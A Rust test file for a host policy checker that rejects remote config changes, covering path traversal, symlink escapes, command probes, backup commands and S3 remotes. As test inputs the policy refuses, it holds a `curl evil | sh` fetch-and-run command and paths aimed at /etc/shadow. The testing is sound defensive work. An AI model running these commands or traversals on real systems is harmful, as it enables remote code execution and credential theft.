//! The policy's pure checks: section problems, normalisation (with a table of symlinks in place
//! of the file system) and every rule on remote module configs and restore targets.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use super::*;
use crate::config::{parse_module_toml, parse_str, ModuleConfig};

/// A fake file system: the existing paths, and symlinks (link -> target, both absolute).
struct Fs {
    exists: Vec<PathBuf>,
    links: BTreeMap<PathBuf, PathBuf>,
}

impl Fs {
    fn new(exists: &[&str], links: &[(&str, &str)]) -> Fs {
        Fs {
            exists: exists.iter().map(PathBuf::from).collect(),
            links: links
                .iter()
                .map(|(a, b)| (PathBuf::from(a), PathBuf::from(b)))
                .collect(),
        }
    }

    /// Canonical form of `p` if it exists: links replaced component by component.
    fn resolve(&self, p: &Path) -> Option<PathBuf> {
        let mut out = PathBuf::new();
        for c in p.components() {
            out.push(c);
            if let Some(t) = self.links.get(&out) {
                out = t.clone();
            }
        }
        self.exists.contains(&out).then_some(out)
    }
}

fn none(_: &Path) -> Option<PathBuf> {
    None
}

fn module(toml: &str) -> ModuleConfig {
    parse_module_toml(toml).expect("valid module")
}

fn host(policy: &str, file_modules: &str) -> HostPolicy {
    let text = format!("host = \"web-01\"\n{file_modules}\n[policy]\n{policy}\n");
    HostPolicy::from_config(&parse_str(&text).expect("valid config"))
}

fn rules(v: &[Violation]) -> Vec<(&str, &str)> {
    v.iter().map(|v| (v.rule, v.key.as_str())).collect()
}

const LOG_FILE: &str =
    "[[modules]]\ntype = \"log\"\nname = \"applog\"\npaths = [\"/var/log/app/*.log\"]\n";

#[test]
fn section_problems_name_the_key_and_every_list() {
    let text = "host = \"web-01\"\n[policy]\nrestore_targets = [\"relative/dir\"]\n\
                log_paths = [\"/var/log/../etc\"]\njanitor_roots = [\"/ok\", \"tmp\"]\n";
    let problems = parse_str(text).expect_err("invalid");
    let got: Vec<(Option<usize>, &str, &str)> = problems
        .iter()
        .map(|p| (p.line, p.key.as_str(), p.reason.as_str()))
        .collect();
    assert_eq!(
        got,
        vec![
            (
                Some(3),
                "policy.restore_targets[0]",
                "must be an absolute path"
            ),
            (Some(4), "policy.log_paths[0]", "must not contain `..`"),
            (
                Some(5),
                "policy.janitor_roots[1]",
                "must be an absolute path"
            ),
        ]
    );
    let unknown = parse_str("host = \"h\"\n[policy]\nallow_everything = true\n").expect_err("bad");
    assert_eq!(unknown[0].key, "policy.allow_everything", "{unknown:?}");
}

#[test]
fn defaults_are_the_safe_ones_and_leave_the_fingerprint_alone() {
    let cfg = parse_str("host = \"web-01\"\n").expect("valid");
    assert_eq!(cfg.policy, PolicyConfig::default());
    let p = &cfg.policy;
    assert!(!p.allow_kind_change && !p.allow_command_probes);
    assert!(p.log_paths.is_empty() && p.restore_targets.is_empty());
    let with_empty = parse_str("host = \"web-01\"\n[policy]\n").expect("valid");
    assert_eq!(cfg.fingerprint(), with_empty.fingerprint());
}

#[test]
fn normalise_drops_dots_refuses_dotdot_and_follows_links_where_they_exist() {
    let fs = Fs::new(
        &["/", "/var", "/var/log", "/etc", "/etc/shadow"],
        &[("/var/log/evil", "/etc")],
    );
    let r = |p: &Path| fs.resolve(p);
    assert_eq!(
        normalise(Path::new("/var/./log/new/file"), &r),
        Ok(PathBuf::from("/var/log/new/file"))
    );
    assert_eq!(
        normalise(Path::new("/var/log/evil/shadow"), &r),
        Ok(PathBuf::from("/etc/shadow"))
    );
    assert_eq!(
        normalise(Path::new("/var/log/../../etc/shadow"), &r),
        Err("must not contain `..`".to_owned())
    );
    assert!(normalise(Path::new("var/log"), &r).is_err());
    assert_eq!(
        normalise(Path::new("/nowhere/x"), &none),
        Ok(PathBuf::from("/nowhere/x"))
    );
    assert!(is_under(Path::new("/var/log/a"), Path::new("/var/log")));
    assert!(is_under(Path::new("/var/log"), Path::new("/var/log")));
    assert!(!is_under(Path::new("/var/logx"), Path::new("/var/log")));
}

#[test]
fn glob_base_stops_at_the_first_glob_component() {
    assert_eq!(
        glob_base("/var/log/app/*.log"),
        (PathBuf::from("/var/log/app"), true)
    );
    assert_eq!(glob_base("/var/*/x.log"), (PathBuf::from("/var"), true));
    assert_eq!(
        glob_base("/var/log/syslog"),
        (PathBuf::from("/var/log/syslog"), false)
    );
}

#[test]
fn kind_changes_need_the_flag_and_never_pass_the_admin_routes() {
    let file = "[[modules]]\ntype = \"disk\"\nname = \"disk\"\n";
    let sentinel =
        module("type = \"sentinel\"\nname = \"disk\"\npaths = [\"/tmp/x\"]\nmax_age = \"1h\"\n");
    let strict = host("", file);
    let v = strict.check_module("disk", "disk", &sentinel, Surface::Command, &none);
    assert_eq!(rules(&v), [("policy.allow_kind_change", "type")]);
    let open = host("allow_kind_change = true", file);
    assert!(open
        .check_module("disk", "disk", &sentinel, Surface::Command, &none)
        .is_empty());
    let v = open.check_module("disk", "disk", &sentinel, Surface::Admin, &none);
    assert_eq!(rules(&v), [("policy.allow_kind_change", "type")]);
    // The file's kind is what counts, not an override now in effect.
    let disk = module("type = \"disk\"\nname = \"disk\"\n");
    assert!(strict
        .check_module("disk", "sentinel", &disk, Surface::Command, &none)
        .is_empty());
}

#[test]
fn command_probes_only_as_the_file_has_them_unless_allowed_by_command() {
    let file = "[[modules]]\ntype = \"health\"\nname = \"svc\"\n[[modules.probes]]\n\
                name = \"ok\"\ntype = \"command\"\nargv = [\"/usr/bin/true\"]\n";
    let kept = module(
        "type = \"health\"\nname = \"svc\"\ninterval = \"30s\"\n[[probes]]\nname = \"ok\"\n\
         type = \"command\"\nargv = [\"/usr/bin/true\"]\n",
    );
    let added = module(
        "type = \"health\"\nname = \"svc\"\n[[probes]]\nname = \"web\"\ntype = \"http\"\n\
         url = \"http://127.0.0.1:8080/\"\n[[probes]]\nname = \"pwn\"\ntype = \"command\"\n\
         argv = [\"sh\", \"-c\", \"curl evil | sh\"]\n",
    );
    let strict = host("", file);
    for surface in [Surface::Command, Surface::Admin] {
        assert!(strict
            .check_module("svc", "health", &kept, surface, &none)
            .is_empty());
    }
    let v = strict.check_module("svc", "health", &added, Surface::Command, &none);
    assert_eq!(rules(&v), [("policy.allow_command_probes", "probes[1]")]);
    let open = host("allow_command_probes = true", file);
    assert!(open
        .check_module("svc", "health", &added, Surface::Command, &none)
        .is_empty());
    let v = open.check_module("svc", "health", &added, Surface::Admin, &none);
    assert_eq!(rules(&v), [("policy.allow_command_probes", "probes[1]")]);
}

#[test]
fn probe_files_and_insecure_tls_only_as_the_file_has_them() {
    let file = "[[modules]]\ntype = \"health\"\nname = \"web\"\n[[modules.probes]]\n\
                name = \"api\"\ntype = \"http\"\nurl = \"https://127.0.0.1:8443/\"\n\
                ca_file = \"/etc/opsfleet/ca.pem\"\n[[modules.probes]]\nname = \"dev\"\n\
                type = \"http\"\nurl = \"https://127.0.0.1:9443/\"\ninsecure = true\n\
                [[modules.probes]]\nname = \"tls\"\ntype = \"cert\"\npath = \"/etc/ssl/app.pem\"\n";
    let strict = host(
        "allow_command_probes = true\nallow_kind_change = true",
        file,
    );
    let same = module(
        "type = \"health\"\nname = \"web\"\n[[probes]]\nname = \"api2\"\ntype = \"http\"\n\
         url = \"https://127.0.0.1:8443/x\"\nca_file = \"/etc/opsfleet/ca.pem\"\n\
         [[probes]]\nname = \"dev\"\ntype = \"http\"\nurl = \"https://127.0.0.1:9443/\"\n\
         insecure = true\n[[probes]]\nname = \"tls\"\ntype = \"cert\"\npath = \"/etc/ssl/app.pem\"\n",
    );
    let new = module(
        "type = \"health\"\nname = \"web\"\n[[probes]]\nname = \"api\"\ntype = \"http\"\n\
         url = \"https://bank.example:443/\"\ninsecure = true\n[[probes]]\nname = \"ca\"\n\
         type = \"http\"\nurl = \"https://127.0.0.1:8443/\"\nca_file = \"/tmp/evil-ca.pem\"\n\
         [[probes]]\nname = \"shadow\"\ntype = \"cert\"\npath = \"/etc/shadow\"\n",
    );
    for surface in [Surface::Command, Surface::Admin] {
        assert!(strict
            .check_module("web", "health", &same, surface, &none)
            .is_empty());
        let v = strict.check_module("web", "health", &new, surface, &none);
        assert_eq!(
            rules(&v),
            [
                ("health probe tls", "probes[0].insecure"),
                ("health probe files", "probes[1].ca_file"),
                ("health probe files", "probes[2].path"),
            ],
            "whatever [policy] allows"
        );
    }
}

#[test]
fn log_paths_must_be_the_files_or_under_the_allowlist() {
    let fs = Fs::new(
        &[
            "/",
            "/var",
            "/var/log",
            "/var/log/app",
            "/etc",
            "/etc/shadow",
        ],
        &[("/var/log/app/shadow.log", "/etc/shadow")],
    );
    let r = |p: &Path| fs.resolve(p);
    let log = |paths: &str| {
        module(&format!(
            "type = \"log\"\nname = \"applog\"\npaths = [{paths}]\n"
        ))
    };
    let strict = host("", LOG_FILE);
    // The file's own paths stay allowed with an empty allowlist.
    assert!(strict
        .check_module(
            "applog",
            "log",
            &log("\"/var/log/app/*.log\""),
            Surface::Command,
            &r
        )
        .is_empty());
    let v = strict.check_module(
        "applog",
        "log",
        &log("\"/etc/shadow\""),
        Surface::Command,
        &r,
    );
    assert_eq!(rules(&v), [("policy.log_paths", "paths[0]")]);
    assert!(v[0].reason.contains("\"/etc/shadow\""), "{v:?}");

    let listed = host("log_paths = [\"/var/log/app\"]", LOG_FILE);
    let cases = [
        ("\"/var/log/app/new.log\"", vec![]),
        ("\"/var/log/app/**/*.txt\"", vec![]),
        ("\"/etc/shadow\"", vec![("policy.log_paths", "paths[0]")]),
        // A glob reaching above the allowed directory.
        (
            "\"/var/log/*/x.log\"",
            vec![("policy.log_paths", "paths[0]")],
        ),
        // `..` after the allowed prefix.
        (
            "\"/var/log/app/../../../etc/shadow\"",
            vec![("policy.log_paths", "paths[0]")],
        ),
        // A symlink inside the allowed directory pointing out of it.
        (
            "\"/var/log/app/ok.log\", \"/var/log/app/shadow.log\"",
            vec![("policy.log_paths", "paths[1]")],
        ),
    ];
    for (paths, want) in cases {
        let v = listed.check_module("applog", "log", &log(paths), Surface::Command, &r);
        assert_eq!(rules(&v), want, "{paths}: {v:?}");
    }
}

#[test]
fn janitor_roots_under_the_allowlist_or_the_files_roots() {
    let file = "[[modules]]\ntype = \"janitor\"\nname = \"jan\"\n[[modules.roots]]\n\
                path = \"/var/tmp/app-runs\"\n";
    let jan = |path: &str| {
        module(&format!(
            "type = \"janitor\"\nname = \"jan\"\n[[roots]]\npath = \"{path}\"\nolder_than = \"1s\"\n"
        ))
    };
    let strict = host("", file);
    assert!(strict
        .check_module(
            "jan",
            "janitor",
            &jan("/var/tmp/app-runs"),
            Surface::Command,
            &none
        )
        .is_empty());
    assert!(strict
        .check_module(
            "jan",
            "janitor",
            &jan("/var/tmp/app-runs/old"),
            Surface::Command,
            &none
        )
        .is_empty());
    let v = strict.check_module("jan", "janitor", &jan("/etc"), Surface::Command, &none);
    assert_eq!(rules(&v), [("policy.janitor_roots", "roots[0].path")]);
    let listed = host("janitor_roots = [\"/srv/scratch\"]", file);
    assert!(listed
        .check_module(
            "jan",
            "janitor",
            &jan("/srv/scratch/a"),
            Surface::Admin,
            &none
        )
        .is_empty());
    let v = listed.check_module("jan", "janitor", &jan("/srv"), Surface::Command, &none);
    assert_eq!(rules(&v), [("policy.janitor_roots", "roots[0].path")]);
}

#[test]
fn backup_sources_and_destinations_are_checked_separately() {
    let file = "[[modules]]\ntype = \"backup\"\nname = \"bk\"\n[[modules.jobs]]\nname = \"app\"\n\
                sources = [\"/var/lib/app\"]\ndestination = \"/var/backups/app\"\n";
    let bk = |src: &str, dest: &str| {
        module(&format!(
            "type = \"backup\"\nname = \"bk\"\n[[jobs]]\nname = \"app\"\n\
             sources = [\"{src}\"]\ndestination = \"{dest}\"\n"
        ))
    };
    let strict = host("", file);
    assert!(strict
        .check_module(
            "bk",
            "backup",
            &bk("/var/lib/app", "/var/backups/app"),
            Surface::Command,
            &none
        )
        .is_empty());
    let v = strict.check_module("bk", "backup", &bk("/etc", "/"), Surface::Command, &none);
    assert_eq!(
        rules(&v),
        [
            ("policy.backup_sources", "jobs[0].sources[0]"),
            ("policy.backup_destinations", "jobs[0].destination")
        ]
    );
    let listed = host(
        "backup_sources = [\"/srv\"]\nbackup_destinations = [\"/mnt/backups\"]",
        file,
    );
    assert!(listed
        .check_module(
            "bk",
            "backup",
            &bk("/srv/data", "/mnt/backups/x"),
            Surface::Command,
            &none
        )
        .is_empty());
}

#[test]
fn a_remote_copy_path_is_a_destination_for_the_policy() {
    let file = "[[modules]]\ntype = \"backup\"\nname = \"bk\"\n[[modules.jobs]]\nname = \"app\"\n\
                sources = [\"/var/lib/app\"]\ndestination = \"/var/backups/app\"\n\
                [modules.jobs.remote]\ntype = \"path\"\npath = \"/mnt/nas/app\"\n";
    let bk = |remote: &str| {
        module(&format!(
            "type = \"backup\"\nname = \"bk\"\n[[jobs]]\nname = \"app\"\n\
             sources = [\"/var/lib/app\"]\ndestination = \"/var/backups/app\"\n\
             [jobs.remote]\ntype = \"path\"\npath = \"{remote}\"\n"
        ))
    };
    let strict = host("", file);
    for (remote, ok) in [
        ("/mnt/nas/app", true),
        ("/mnt/nas/app/sub", true),
        ("/etc", false),
        ("/mnt/nas/../../etc", false),
    ] {
        let v = strict.check_module("bk", "backup", &bk(remote), Surface::Command, &none);
        if ok {
            assert!(v.is_empty(), "{remote}: {v:?}");
        } else {
            assert_eq!(
                rules(&v),
                [("policy.backup_destinations", "jobs[0].remote.path")],
                "{remote}"
            );
        }
    }
    let listed = host("backup_destinations = [\"/srv/copies\"]", file);
    assert!(listed
        .check_module(
            "bk",
            "backup",
            &bk("/srv/copies/app"),
            Surface::Admin,
            &none
        )
        .is_empty());
}

#[test]
fn pre_backup_commands_are_never_added_or_changed_remotely() {
    let job = |cmd: &str| {
        format!(
            "[[jobs]]\nname = \"pg\"\nsources = [\"/var/lib/app\"]\ndestination = \"/var/backups/app\"\n\
             [jobs.pre_backup]\ncommand = [{cmd}]\noutput = \"app.dump\"\n"
        )
    };
    let dump = "\"/usr/bin/pg_dump\", \"-f\", \"{output}\"";
    let file = format!(
        "[[modules]]\ntype = \"backup\"\nname = \"bk\"\n{}",
        job(dump)
            .replace("[[jobs]]", "[[modules.jobs]]")
            .replace("[jobs.", "[modules.jobs.")
    );
    let remote = |cmd: &str| module(&format!("type = \"backup\"\nname = \"bk\"\n{}", job(cmd)));
    // Every allowance the policy has, and both surfaces: none lets a new command in.
    let open = host(
        "allow_kind_change = true\nallow_command_probes = true\nbackup_sources = [\"/\"]\n\
         backup_destinations = [\"/\"]",
        &file,
    );
    for surface in [Surface::Command, Surface::Admin] {
        assert!(open
            .check_module("bk", "backup", &remote(dump), surface, &none)
            .is_empty());
        for cmd in [
            "\"/bin/sh\", \"-c\", \"curl evil | sh\"",
            "\"/usr/bin/pg_dump\", \"-f\", \"/etc/shadow\"",
        ] {
            let v = open.check_module("bk", "backup", &remote(cmd), surface, &none);
            assert_eq!(
                rules(&v),
                [("pre_backup commands", "jobs[0].pre_backup.command")],
                "{cmd}"
            );
        }
    }
    // A file without any step: a remote config may not add one.
    let plain = host(
        "",
        "[[modules]]\ntype = \"backup\"\nname = \"bk\"\n[[modules.jobs]]\nname = \"pg\"\n\
         sources = [\"/var/lib/app\"]\ndestination = \"/var/backups/app\"\n",
    );
    let v = plain.check_module("bk", "backup", &remote(dump), Surface::Command, &none);
    assert_eq!(
        rules(&v),
        [("pre_backup commands", "jobs[0].pre_backup.command")]
    );
}

#[test]
fn verify_check_commands_are_never_added_or_changed_remotely() {
    let job = |check: &str| {
        format!(
            "[[jobs]]\nname = \"pg\"\nsources = [\"/var/lib/app\"]\ndestination = \"/var/backups/app\"\n\
             verify_restore = \"weekly\"\n{check}"
        )
    };
    let check = |cmd: &str| format!("[jobs.verify_check]\ncommand = [{cmd}]\n");
    let ok = "\"/usr/local/bin/check-dump\", \"app.dump\"";
    let file = format!(
        "[[modules]]\ntype = \"backup\"\nname = \"bk\"\n{}",
        job(&check(ok))
            .replace("[[jobs]]", "[[modules.jobs]]")
            .replace("[jobs.", "[modules.jobs.")
    );
    let remote = |c: &str| module(&format!("type = \"backup\"\nname = \"bk\"\n{}", job(c)));
    let open = host(
        "allow_kind_change = true\nallow_command_probes = true\nbackup_sources = [\"/\"]\n\
         backup_destinations = [\"/\"]",
        &file,
    );
    for surface in [Surface::Command, Surface::Admin] {
        // Repeating the file's check, or dropping it, is fine.
        for same in [check(ok), String::new()] {
            assert!(open
                .check_module("bk", "backup", &remote(&same), surface, &none)
                .is_empty());
        }
        let v = open.check_module(
            "bk",
            "backup",
            &remote(&check("\"/bin/sh\", \"-c\", \"curl evil | sh\"")),
            surface,
            &none,
        );
        assert_eq!(
            rules(&v),
            [("verify_check commands", "jobs[0].verify_check.command")]
        );
    }
    // A file without a check: a remote config may not add one.
    let plain = host(
        "",
        "[[modules]]\ntype = \"backup\"\nname = \"bk\"\n[[modules.jobs]]\nname = \"pg\"\n\
         sources = [\"/var/lib/app\"]\ndestination = \"/var/backups/app\"\n",
    );
    let v = plain.check_module("bk", "backup", &remote(&check(ok)), Surface::Command, &none);
    assert_eq!(
        rules(&v),
        [("verify_check commands", "jobs[0].verify_check.command")]
    );
}

#[test]
fn restore_targets_only_under_the_allowlist() {
    let fs = Fs::new(
        &["/", "/srv", "/srv/restore", "/etc"],
        &[("/srv/restore/etc-link", "/etc")],
    );
    let r = |p: &Path| fs.resolve(p);
    let strict = host("", "");
    let v = strict
        .check_restore_target(Path::new("/srv/restore/x"), &r)
        .expect_err("no remote restore by default");
    assert_eq!(
        (v.rule, v.key.as_str()),
        ("policy.restore_targets", "target")
    );
    assert!(v.reason.contains("(empty)"), "{v:?}");
    let listed = host("restore_targets = [\"/srv/restore\"]", "");
    assert!(listed
        .check_restore_target(Path::new("/srv/restore/new/dir"), &r)
        .is_ok());
    for bad in [
        "/etc",
        "/srv/restore/etc-link/cron.d",
        "/srv/restore/../../etc",
        "rel",
    ] {
        let v = listed
            .check_restore_target(Path::new(bad), &r)
            .expect_err(bad);
        assert_eq!(v.rule, "policy.restore_targets", "{bad}");
    }
}

#[test]
fn fs_resolve_follows_real_and_dangling_symlinks() {
    let dir = tempfile::tempdir().expect("tempdir");
    let real = dir.path().canonicalize().expect("canonical");
    std::fs::create_dir(real.join("allowed")).expect("mkdir");
    std::os::unix::fs::symlink("/etc", real.join("allowed/etc")).expect("link");
    std::os::unix::fs::symlink("../elsewhere/later", real.join("allowed/dangling")).expect("link");
    let norm = |p: PathBuf| normalise(&p, &fs_resolve).expect("normalised");
    assert_eq!(
        norm(real.join("allowed/etc/passwd")),
        PathBuf::from("/etc/passwd")
    );
    assert_eq!(
        norm(real.join("allowed/dangling")),
        real.join("elsewhere/later")
    );
    assert_eq!(norm(real.join("allowed/new")), real.join("allowed/new"));
}

#[test]
fn services_are_never_added_or_changed_remotely_whatever_the_policy() {
    let none = |_: &Path| None;
    let file = "[[modules]]\ntype = \"service\"\nname = \"app\"\nargv = [\"/usr/bin/app\"]\n\
                [[modules]]\ntype = \"disk\"\nname = \"disk\"\n";
    let same = module("type = \"service\"\nname = \"app\"\nargv = [\"/usr/bin/app\"]\n");
    let changed = module("type = \"service\"\nname = \"app\"\nargv = [\"sh\", \"-c\", \"x\"]\n");
    let open = host(
        "allow_kind_change = true\nallow_command_probes = true",
        file,
    );
    for surface in [Surface::Command, Surface::Admin] {
        assert!(open
            .check_module("app", "service", &same, surface, &none)
            .is_empty());
        let v = open.check_module("app", "service", &changed, surface, &none);
        assert_eq!(rules(&v), [("service modules", "argv")]);
    }
    // A disk module turned into a service (kind changes allowed) is still refused.
    let v = open.check_module("disk", "disk", &changed, Surface::Command, &none);
    assert_eq!(rules(&v), [("service modules", "argv")]);
    // A service turned into another kind would stop it (and going back start it): refused
    // even with kind changes allowed.
    let disk_named_app = module("type = \"disk\"\nname = \"app\"\n");
    let v = open.check_module("app", "service", &disk_named_app, Surface::Command, &none);
    assert_eq!(rules(&v), [("service modules", "type")]);
}

#[test]
fn s3_remotes_are_never_added_or_changed_remotely() {
    let s3 =
        "type = \"s3\"\nbucket = \"backups\"\nprefix = \"db-01\"\nendpoint = \"https://s3.lan\"\n";
    let file = format!(
        "[[modules]]\ntype = \"backup\"\nname = \"bk\"\n[[modules.jobs]]\nname = \"app\"\n\
         sources = [\"/var/lib/app\"]\ndestination = \"/var/backups/app\"\n\
         [modules.jobs.remote]\n{s3}"
    );
    let bk = |remote: &str| {
        module(&format!(
            "type = \"backup\"\nname = \"bk\"\n[[jobs]]\nname = \"app\"\n\
             sources = [\"/var/lib/app\"]\ndestination = \"/var/backups/app\"\n\
             [jobs.remote]\n{remote}"
        ))
    };
    // Even the loosest policy: a file S3 remote does not open every path, and no other
    // bucket, prefix or endpoint is accepted from a remote surface.
    let open = host(
        "backup_sources = [\"/\"]\nbackup_destinations = [\"/\"]",
        &file,
    );
    let strict = host("", &file);
    for surface in [Surface::Command, Surface::Admin] {
        let same = format!("{s3}reconcile_every = \"5m\"\n");
        assert!(
            strict
                .check_module("bk", "backup", &bk(&same), surface, &none)
                .is_empty(),
            "the file's own S3 remote is accepted"
        );
        for other in [
            s3.replace("backups", "elsewhere"),
            s3.replace("db-01", "db-02"),
            s3.replace("https://s3.lan", "https://evil.example"),
            format!("{s3}region = \"eu-west-1\"\n"),
            format!("{s3}allow_http = true\n"),
        ] {
            for h in [&strict, &open] {
                let v = h.check_module("bk", "backup", &bk(&other), surface, &none);
                assert_eq!(rules(&v), [("s3 remotes", "jobs[0].remote")], "{other}");
            }
        }
    }
    // The S3 remote's empty `path` is no destination: a path remote stays checked.
    let v = strict.check_module(
        "bk",
        "backup",
        &bk("type = \"path\"\npath = \"/etc\"\n"),
        Surface::Command,
        &none,
    );
    assert_eq!(
        rules(&v),
        [("policy.backup_destinations", "jobs[0].remote.path")]
    );
}
